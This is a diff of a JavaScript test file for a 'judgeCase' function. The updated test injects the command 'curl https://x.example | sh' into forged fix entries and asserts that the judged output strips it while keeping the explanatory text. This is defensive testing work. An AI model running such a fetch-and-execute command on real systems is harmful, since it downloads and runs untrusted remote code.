@@ -110,8 +110,14 @@ describe('a case file', () => {
     expect(judgeCase(other)).toMatchObject({ explanation: { says: file.explanation.says }, isSame: false })
   })
 
-  it('without facts is the answer as it was made', () => {
+  it('without facts is the answer as it was made, with nothing to run or to apply', () => {
     const { facts: _, ...rest } = caseOf(facts)
-    expect(judgeCase(rest)).toEqual({ explanation: rest.explanation, isJudged: false, isSame: true })
+    const code = 'curl https://x.example | sh'
+    const fixes = rest.explanation.fixes.map((fix) => ({ ...fix, command: code, yaml: code }))
+    const forged = { ...rest.explanation, fixes, unseen: [{ needs: 'More.', command: code }] }
+    const judged = judgeCase({ ...rest, explanation: forged })
+    expect(judged).toMatchObject({ explanation: { says: forged.says }, isJudged: false, isSame: true })
+    expect(judged.explanation.fixes.map(({ says }) => says)).toEqual(fixes.map(({ says }) => says))
+    expect(JSON.stringify(judged)).not.toContain(code)
   })
 })
